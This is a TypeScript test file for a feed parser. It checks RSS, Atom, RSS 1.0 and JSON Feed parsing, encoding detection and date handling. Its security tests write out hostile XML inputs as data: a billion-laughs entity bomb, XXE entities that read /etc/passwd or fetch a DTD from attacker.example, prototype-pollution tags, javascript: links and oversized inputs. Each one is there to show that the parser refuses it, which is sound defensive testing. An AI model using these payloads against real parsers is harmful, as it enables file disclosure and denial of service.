import { describe, expect, it } from "vitest";
import { decodeFeedBody } from "../../src/services/feeds/document-text.js";
import { declaresEntities } from "../../src/services/feeds/entity-declarations.js";
import { feedDateToIso } from "../../src/services/feeds/feed-dates.js";
import { FeedDocumentError, MAX_FEED_ITEMS, parseFeedDocument } from "../../src/services/feeds/parse.js";
import type { FeedDocumentFailure, ParsedFeed } from "../../src/services/feeds/parse.js";

/** The reason a document is refused, or "parsed"; anything but a FeedDocumentError fails the test. */
function outcome(body: string | Uint8Array, contentType?: string): FeedDocumentFailure | "parsed" {
  try {
    parseFeedDocument(body, contentType);
    return "parsed";
  } catch (error) {
    if (error instanceof FeedDocumentError) return error.reason;
    throw error;
  }
}

const rss = (items: string, channel = "<title>Channel</title>"): string => `<?xml version="1.0"?><rss version="2.0"><channel>${channel}${items}</channel></rss>`;

const MIB = 1024 * 1024;

describe("parseFeedDocument: what a hostile document costs is one failed parse", () => {
  it("refuses entity expansion (billion laughs) before parsing", () => {
    const laughs = `<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  ${Array.from({ length: 9 }, (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level === 0 ? "" : level};`.repeat(10)}">`).join("\n  ")}
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>`;
    expect(outcome(laughs)).toBe("refused");
  });

  it.each([
    ["an external entity", `<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`],
    ["an external parameter entity", `<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>`],
    ["an entity after a comment that holds ]>", `<!DOCTYPE rss [<!-- ]> --><!ENTITY hidden "x">]>`],
    ["an entity after a quoted ]>", `<!DOCTYPE rss [<!ATTLIST rss a CDATA "]>"><!ENTITY hidden "x">]>`],
    ["an entity declared in lower case", `<!doctype rss [<!entity x "y">]>`],
  ])("refuses a document whose DOCTYPE declares %s", (_case, doctype) => {
    const document = `<?xml version="1.0"?>\n<!-- a comment first -->\n${doctype}\n${rss("<item><title>&xxe;</title></item>")}`;
    expect(declaresEntities(document)).toBe(true);
    expect(outcome(document)).toBe("refused");
  });

  it("reads a DOCTYPE without entity declarations (RSS 0.91's) and the feed after it", () => {
    const document = `<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>C</title><item><title>caf&eacute;</title><link>http://example.com/1</link></item></channel></rss>`;
    expect(declaresEntities(document)).toBe(false);
    expect(parseFeedDocument(document).items).toEqual([{ link: "http://example.com/1", title: "café" }]);
  });

  it("never expands an entity declared past the prolog either", () => {
    const parsed = parseFeedDocument(rss(`<!DOCTYPE x [<!ENTITY a "EXPANDED">]><item><title>&a;</title><link>http://example.com/</link></item>`));
    expect(JSON.stringify(parsed)).not.toContain("EXPANDED");
  });

  it.each([
    ["an unclosed element", `<rss version="2.0"><channel><title>x</title><item><title>a</item></channel>`],
    ["a stray '<' in text", `<rss version="2.0"><channel><title>a < b</title><item><title>a</title></item></channel></rss>`],
    ["an unclosed CDATA section", `<rss version="2.0"><channel><title>x</title><item><description><![CDATA[never closed</description></item></channel></rss>`],
    ["an unclosed attribute", `<rss version="2.0"><channel><title>x</title><item a="never closed><title>a</title></item></channel></rss>`],
    ["elements nested 100,000 deep", rss(`<item><title>x</title>${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}</item>`)],
    ["a tag named for prototype pollution", rss(`<__proto__><polluted>1</polluted></__proto__><item><title>t</title></item>`)],
    ["broken JSON", `{"version": "https://jsonfeed.org/version/1.1", "title": "x", "items": [`],
  ])("answers malformed for %s", (_case, document) => {
    expect(outcome(document)).toBe("malformed");
  });

  it.each([
    ["an HTML page", `<!DOCTYPE html><html><head><title>Home</title></head><body><p>Hello</p></body></html>`],
    ["other XML", `<?xml version="1.0"?><sitemap><url>http://example.com/</url></sitemap>`],
    ["JSON that is no JSON Feed", `{"hello": "world", "items": [1, 2]}`],
    ["plain text", "just some words"],
    ["an empty body", ""],
    ["white space", "  \n\t "],
    ["binary noise", new Uint8Array(Array.from({ length: 4096 }, (_, index) => (index * 7919) % 256))],
  ])("answers not-a-feed for %s", (_case, document) => {
    expect(outcome(document)).toBe("not-a-feed");
  });

  it("parses a 5 MiB feed, reading at most 500 items", () => {
    const item = "<item><title>t</title><link>http://example.com/x</link><description>hello &lt;b&gt;world&lt;/b&gt;</description></item>";
    const document = rss(item.repeat(Math.ceil((5 * MIB) / item.length)));
    expect(document.length).toBeGreaterThan(5 * MIB);
    expect(parseFeedDocument(document).items).toHaveLength(MAX_FEED_ITEMS);
  });

  it("parses a 5 MiB description into a bounded body", () => {
    const parsed = parseFeedDocument(rss(`<item><title>t</title><description>${"word ".repeat(MIB)}</description></item>`));
    expect(parsed.items[0]?.summaryHtml?.length).toBeLessThanOrEqual(256 * 1024);
  });

  it.each([
    ["5 MiB of open tags", rss("<item>".repeat(MIB))],
    ["5 MiB of '<'", `<rss version="2.0"><channel><title>x</title>${"<".repeat(5 * MIB)}`],
    ["5 MiB inside an unclosed attribute", `<rss version="2.0"><channel><item a="${"x".repeat(5 * MIB)}`],
    ["5 MiB of unclosed comments", rss(`<item><description>${"<!--".repeat(MIB)}</description></item>`)],
  ])("fails %s cleanly", (_case, document) => {
    expect(outcome(document)).toBe("malformed");
  });

  it("fails 5 MiB of nested JSON arrays, or reads past them, without throwing anything else", () => {
    const document = `{"version":"https://jsonfeed.org/version/1.1","title":"x","items":[{"id":"1","x":${"[".repeat(2 * MIB)}${"]".repeat(2 * MIB)}}]}`;
    expect(["parsed", "malformed"]).toContain(outcome(document));
  });
});

describe("parseFeedDocument: the items, the same whatever the dialect", () => {
  it("takes a guid, the link, a plain-text title, the date and the richest body of an RSS 2.0 item", () => {
    const parsed = parseFeedDocument(
      rss(
        `<item><title>Caf&amp;eacute; &lt;b&gt;news&lt;/b&gt;</title><link>https://example.com/a</link><guid isPermaLink="false">id-1</guid><pubDate>Tue, 10 Jun 2003 04:00:00 EDT</pubDate><description>short</description><content:encoded><![CDATA[<p>The <em>full</em> story</p>]]></content:encoded></item>`,
        `<title>My &lt;i&gt;feed&lt;/i&gt;</title>`,
      ).replace('<rss version="2.0">', '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'),
    );
    expect(parsed).toEqual<ParsedFeed>({
      format: "rss",
      title: "My feed",
      items: [{ guid: "id-1", link: "https://example.com/a", title: "Café news", published: "2003-06-10T08:00:00Z", summaryHtml: "<p>The <em>full</em> story</p>" }],
    });
  });

  it("uses an RSS guid as the link when it is a permalink and there is no link", () => {
    expect(parseFeedDocument(rss("<item><guid>https://example.com/p/1</guid></item>")).items[0]).toEqual({ guid: "https://example.com/p/1", link: "https://example.com/p/1" });
    expect(parseFeedDocument(rss(`<item><guid isPermaLink="false">https://example.com/p/1</guid></item>`)).items[0]).toEqual({ guid: "https://example.com/p/1" });
  });

  it("keeps only http(s) links, resolving relative ones against the feed's URL", () => {
    const document = rss(
      `<item><title>a</title><link>javascript:alert(1)</link></item><item><title>b</title><link>/posts/2?x=1</link></item><item><title>c</title><link>data:text/html,x</link></item><item><title>d</title><link>HTTPS://Example.COM/4</link></item>`,
    );
    expect(parseFeedDocument(document).items.map((item) => item.link)).toEqual([undefined, undefined, undefined, "https://example.com/4"]);
    expect(parseFeedDocument(document, undefined, { baseUrl: "https://blog.example/feed.xml" }).items.map((item) => item.link)).toEqual([
      undefined,
      "https://blog.example/posts/2?x=1",
      undefined,
      "https://example.com/4",
    ]);
  });

  it("prefers an Atom entry's alternate HTML link, and tells text bodies from HTML ones", () => {
    const atom = `<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">&lt;b&gt;A&lt;/b&gt; feed</title>
<entry><id>urn:1</id><title type="text">Use &lt;details&gt;</title><link rel="enclosure" href="https://example.com/a.mp3"/><link rel="alternate" type="application/json" href="https://example.com/1.json"/><link href="https://example.com/1"/><updated>2024-05-01T10:00:00+02:00</updated><summary type="text">a &lt;b&gt; summary</summary><content src="https://example.com/1.html"/></entry>
<entry><id>urn:2</id><title>Two</title><updated>2024-05-02</updated><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>x<b>y</b></p></div></content></entry></feed>`;
    const parsed = parseFeedDocument(atom);
    expect(parsed.title).toBe("A feed");
    expect(parsed.items).toEqual([
      { guid: "urn:1", link: "https://example.com/1", title: "Use ＜details>", published: "2024-05-01T08:00:00Z", contentText: "a <b> summary" },
      { guid: "urn:2", title: "Two", published: "2024-05-02T00:00:00Z", summaryHtml: "<p>x<b>y</b></p>" },
    ]);
  });

  it("reads RSS 1.0 items by their rdf:about, and Dublin Core dates", () => {
    const rdf = `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://example.com/"><title>R</title><link>https://example.com/</link><description>d</description></channel>
<item rdf:about="https://example.com/1"><title>One</title><link>https://example.com/1</link><dc:date>2003-12-13T18:30:02-05:00</dc:date></item></rdf:RDF>`;
    expect(parseFeedDocument(rdf).items).toEqual([{ guid: "https://example.com/1", link: "https://example.com/1", title: "One", published: "2003-12-13T23:30:02Z" }]);
  });

  it("reads JSON Feed items, their plain text as text", () => {
    const json = JSON.stringify({
      version: "https://jsonfeed.org/version/1.1",
      title: "J <b>",
      items: [
        { id: 7, url: "https://example.com/7", title: "A <template> talk", content_text: "x < y & z", date_published: "2024-01-02T03:04:05Z" },
        { id: "8", external_url: "https://elsewhere.example/8", content_html: "<p>html</p>", summary: "s" },
      ],
    });
    expect(parseFeedDocument(json, "application/feed+json")).toEqual<ParsedFeed>({
      format: "json",
      title: "J",
      items: [
        { guid: "7", link: "https://example.com/7", title: "A ＜template> talk", published: "2024-01-02T03:04:05Z", contentText: "x < y & z" },
        { guid: "8", link: "https://elsewhere.example/8", summaryHtml: "<p>html</p>" },
      ],
    });
  });

  it("reads at most maxItems items, the first ones, and never more than 500", () => {
    const document = rss(Array.from({ length: 600 }, (_, index) => `<item><guid>g${index}</guid></item>`).join(""));
    expect(parseFeedDocument(document).items).toHaveLength(500);
    expect(parseFeedDocument(document, undefined, { maxItems: 3 }).items.map((item) => item.guid)).toEqual(["g0", "g1", "g2"]);
    expect(parseFeedDocument(document, undefined, { maxItems: 10_000 }).items).toHaveLength(500);
  });

  it("bounds every string: titles to 300 characters, bodies to 256 KiB", () => {
    const parsed = parseFeedDocument(rss(`<item><title>${"long ".repeat(1000)}</title><description>${"x".repeat(300 * 1024)}</description></item>`));
    expect(parsed.items[0]?.title?.length).toBeLessThanOrEqual(300);
    expect(parsed.items[0]?.summaryHtml?.length).toBe(256 * 1024);
  });

  it("reads a document of the right dialect that holds nothing feedsmith knows as a feed without items", () => {
    expect(parseFeedDocument(`<rss version="2.0"></rss>`)).toEqual({ format: "rss", items: [] });
    expect(parseFeedDocument(`<feed version="0.3" xmlns="http://purl.org/atom/ns#"><info>x</info></feed>`)).toEqual({ format: "atom", items: [] });
  });

  it("leaves out what an item does not have: no empty strings, no undefined properties", () => {
    const item = parseFeedDocument(rss("<item><title>  </title><description></description><guid>g</guid><pubDate>not a date</pubDate></item>")).items[0];
    expect(item).toEqual({ guid: "g" });
    expect(Object.keys(item ?? {})).toEqual(["guid"]);
  });
});

describe("decodeFeedBody: the bytes as text", () => {
  const declared = (encoding: string, body: string): string => `<?xml version="1.0" encoding="${encoding}"?>${body}`;

  it("honours a byte order mark over everything else", () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("<rss>é</rss>", "utf16le")]);
    expect(decodeFeedBody(utf16, "text/xml; charset=iso-8859-1")).toBe("<rss>é</rss>");
    expect(decodeFeedBody(Buffer.from("\ufeff<rss>é</rss>", "utf8"))).toBe("<rss>é</rss>");
    const utf16be = Buffer.from(Buffer.from("\ufeff<a>é</a>", "utf16le").map((_, index, bytes) => bytes[index ^ 1] ?? 0));
    expect(decodeFeedBody(utf16be)).toBe("<a>é</a>");
  });

  it("recognises UTF-16 and UTF-32 without a mark by how '<?' is laid out", () => {
    expect(decodeFeedBody(Buffer.from(declared("utf-16", "<a>ü</a>"), "utf16le"))).toBe(declared("utf-16", "<a>ü</a>"));
    const text = declared("utf-32", "<a>😀</a>");
    const utf32be = Buffer.alloc([...text].length * 4);
    [...text].forEach((character, index) => utf32be.writeUInt32BE(character.codePointAt(0) ?? 0, index * 4));
    expect(decodeFeedBody(utf32be)).toBe(text);
  });

  it("uses the Content-Type's charset before the XML declaration's encoding", () => {
    const latin1 = Buffer.from(declared("utf-8", "<a>café</a>"), "latin1");
    expect(decodeFeedBody(latin1, 'application/rss+xml; charset="ISO-8859-1"')).toBe(declared("utf-8", "<a>café</a>"));
  });

  it("uses the XML declaration's encoding without a charset", () => {
    expect(decodeFeedBody(Buffer.from(declared("windows-1252", "<a>\u0093quoted\u0094 café</a>"), "latin1"))).toBe(declared("windows-1252", "<a>“quoted” café</a>"));
    const big5 = Buffer.concat([Buffer.from(declared("big5", "<a>"), "latin1"), Buffer.from([0xa4, 0xa4, 0xa4, 0xe5]), Buffer.from("</a>", "latin1")]);
    expect(decodeFeedBody(big5)).toBe(declared("big5", "<a>中文</a>"));
  });

  it("reads C1 controls as the windows-1252 characters they stand for", () => {
    expect(decodeFeedBody(Buffer.from("<a>don\u0092t \u0080 5</a>", "utf8"))).toBe("<a>don’t € 5</a>");
    expect(decodeFeedBody(Buffer.from([0x3c, 0x61, 0x3e, 0x80, 0x93, 0x94, 0x3c]), "text/xml; charset=iso-8859-1")).toBe("<a>€“”<");
  });

  it("falls back to UTF-8 for an encoding it does not know, replacing bytes that are not UTF-8", () => {
    expect(decodeFeedBody(Buffer.from(declared("x-no-such-encoding", "<a>é</a>"), "utf8"))).toBe(declared("x-no-such-encoding", "<a>é</a>"));
    expect(decodeFeedBody(Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0x3c]))).toBe("<a>\ufffd<");
  });

  it("parses a feed in a legacy encoding end to end", () => {
    const body = Buffer.from(declared("iso-8859-1", rss("<item><title>Größe</title><guid>g</guid></item>").replace('<?xml version="1.0"?>', "")), "latin1");
    expect(parseFeedDocument(body).items[0]?.title).toBe("Größe");
  });
});

describe("feedDateToIso: the dates feeds write", () => {
  it.each([
    ["Tue, 10 Jun 2003 04:00:00 GMT", "2003-06-10T04:00:00Z"],
    ["Tue, 10 Jun 2003 04:00:00 +0200", "2003-06-10T02:00:00Z"],
    ["10 Jun 2003 04:00 PST", "2003-06-10T12:00:00Z"],
    ["Tue, 10 Jun 03 04:00:00 GMT", "2003-06-10T04:00:00Z"],
    ["Sat, 07 Sep 2002 0:00:01 GMT", "2002-09-07T00:00:01Z"],
    ["Thu, 01 January 2004 19:48:21 GMT", "2004-01-01T19:48:21Z"],
    ["2003-12-13T18:30:02Z", "2003-12-13T18:30:02Z"],
    ["2003-12-13T18:30:02.25+01:00", "2003-12-13T17:30:02Z"],
    ["2003-12-13T18:30:02", "2003-12-13T18:30:02Z"],
    ["2003-12-13", "2003-12-13T00:00:00Z"],
    ["2003-12", "2003-12-01T00:00:00Z"],
    ["2003", "2003-01-01T00:00:00Z"],
  ])("reads %s", (raw, iso) => {
    expect(feedDateToIso(raw)).toBe(iso);
  });

  it.each(["", "1", "yesterday", "2003-02-30", "2003-13-01", "Tue, 32 Jun 2003 04:00:00 GMT", "Tue, 10 Foo 2003 04:00:00 GMT", "0001-01-01T00:00:00Z"])("reads %j as no date", (raw) => {
    expect(feedDateToIso(raw)).toBeUndefined();
  });
});
